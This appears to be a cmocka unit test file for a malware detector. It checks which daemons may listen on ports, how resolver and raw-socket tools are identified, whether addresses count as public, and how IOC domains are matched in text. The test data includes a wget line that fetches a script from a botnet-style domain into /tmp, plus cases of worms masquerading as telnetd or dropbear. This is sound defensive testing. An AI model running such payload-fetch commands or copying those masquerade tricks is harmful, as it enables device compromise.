/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * test_detect.c - the detectors' policy tables (expected daemons, resolvers,
 * raw-socket tools, public addresses) and the IOC domain tokenizer, table-
 * driven, with hostile names beside ordinary ones.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <string.h>

#include "detect.h"
#include "ioc.h"
#include "util.h"

static void test_expected_listener(void **state)
{
    static const struct {
        uint16_t port;
        const char *exe, *comm;
        int want;
    } cases[] = {
        { 22, "/usr/sbin/dropbear", "dropbear", 1 },
        { 22, "/usr/sbin/sshd", "sshd", 1 },
        { 22, "/usr/sbin/uhttpd", "uhttpd", 0 },
        { 23, "/usr/sbin/telnetd", "telnetd", 1 },
        { 23, "/bin/busybox", "telnetd", 1 },
        { 2323, "/usr/sbin/utelnetd", "x", 1 },
        { 80, "/usr/sbin/uhttpd", "uhttpd", 1 },
        { 80, "/usr/sbin/lighttpd", "lighttpd", 1 },
        { 80, "/usr/bin/nc", "nc", 0 },
        /* the worm names itself after a daemon: its exe decides */
        { 23, "/tmp/.x", "telnetd", 0 },
        /* a daemon's name, but running from tmpfs */
        { 22, "/tmp/dropbear", "dropbear", 0 },
        { 80, "/var/run/httpd", "httpd", 0 },
        /* exe unreadable: comm is all there is */
        { 22, "", "dropbear", 1 },
        { 22, "", "", 0 },
        { 22, "/usr/sbin/dropbear2", "dropbear", 0 },
        { 8080, "/usr/bin/anything", "x", 1 },      /* not a grabbed port */
    };
    size_t i;

    (void)state;
    for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        if (detect_expected_listener(cases[i].port, cases[i].exe, cases[i].comm) != cases[i].want) {
            fail_msg("case %zu: port %u exe '%s'", i, cases[i].port, cases[i].exe);
        }
    }
}

static void test_names(void **state)
{
    (void)state;
    assert_true(detect_is_resolver("/usr/sbin/dnsmasq", "dnsmasq"));
    assert_true(detect_is_resolver("/usr/sbin/unbound", ""));
    assert_false(detect_is_resolver("/tmp/.x", "dnsmasq"));
    assert_false(detect_is_resolver("/usr/sbin/dnsmasq-evil", "dnsmasq"));
    assert_true(detect_is_raw_tool("/usr/bin/traceroute", "traceroute"));
    assert_true(detect_is_raw_tool("", "nmap"));
    assert_false(detect_is_raw_tool("/tmp/.x", "nmap"));
    assert_false(detect_is_raw_tool("", ""));
}

static void test_public(void **state)
{
    static const struct {
        int family;
        uint8_t a[16];
        int want;
    } cases[] = {
        { 4, { 8, 8, 8, 8 }, 1 },
        { 4, { 1, 1, 1, 1 }, 1 },
        { 4, { 127, 0, 0, 53 }, 0 },
        { 4, { 10, 1, 2, 3 }, 0 },
        { 4, { 192, 168, 1, 1 }, 0 },
        { 4, { 172, 16, 0, 1 }, 0 },
        { 4, { 172, 31, 255, 1 }, 0 },
        { 4, { 172, 32, 0, 1 }, 1 },
        { 4, { 100, 64, 0, 1 }, 0 },
        { 4, { 100, 128, 0, 1 }, 1 },
        { 4, { 169, 254, 1, 1 }, 0 },
        { 4, { 0, 0, 0, 0 }, 0 },
        { 4, { 224, 0, 0, 251 }, 0 },
        { 6, { 0x20, 0x01, 0x48, 0x60, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x88, 0x88 }, 1 },
        { 6, { 0 }, 0 },
        { 6, { 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1 }, 0 },
        { 6, { 0xfe, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1 }, 0 },
        { 6, { 0xfd, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1 }, 0 },
        { 6, { 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 8, 8, 8, 8 }, 1 },
        { 6, { 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 192, 168, 0, 1 }, 0 },
    };
    size_t i;

    (void)state;
    for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        if (detect_addr_public(cases[i].family, cases[i].a) != cases[i].want) {
            fail_msg("case %zu", i);
        }
    }
}

struct hits {
    char names[8][64];
    unsigned n;
};

static void hit_cb(void *ctx, const char *domain, const void *ioc)
{
    struct hits *h = ctx;

    (void)ioc;
    if (h->n < 8) {
        (void)util_strlcpy(h->names[h->n++], domain, sizeof h->names[0]);
    }
}

static void test_domains_in_text(void **state)
{
    static const char feed[] = "vbotnt1.duckdns.org\nc2.example.net\n";
    static const struct {
        const char *text;
        unsigned hits;
        const char *first;
    } cases[] = {
        { "wget http://vbotnt1.duckdns.org/x.sh -O /tmp/x", 1, "vbotnt1.duckdns.org" },
        { "a.vbotnt1.duckdns.org", 1, "a.vbotnt1.duckdns.org" },
        { "VBOTNT1.DuckDNS.org", 1, "VBOTNT1.DuckDNS.org" },
        { "duckdns.org", 0, NULL },
        { "xvbotnt1.duckdns.org", 0, NULL },
        { "reply c2.example.net is 1.2.3.4; c2.example.net", 2, "c2.example.net" },
        { "", 0, NULL },
        { "....", 0, NULL },
        { "no domains here", 0, NULL },
    };
    struct ioc_store *s;
    size_t i;

    (void)state;
    assert_int_equal(ioc_store_new(&s), IH_OK);
    assert_int_equal(ioc_load_buf(s, "t", feed, sizeof feed - 1, IOC_FMT_PLAIN, NULL), IH_OK);
    for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct hits h;
        unsigned n;

        memset(&h, 0, sizeof h);
        n = detect_domains_in_text(s, cases[i].text, hit_cb, &h);
        if (n != cases[i].hits || h.n != n) {
            fail_msg("case %zu: %u hits", i, n);
        }
        if (cases[i].first) {
            assert_string_equal(h.names[0], cases[i].first);
        }
    }
    ioc_store_free(s);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_expected_listener),
        cmocka_unit_test(test_names),
        cmocka_unit_test(test_public),
        cmocka_unit_test(test_domains_in_text),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
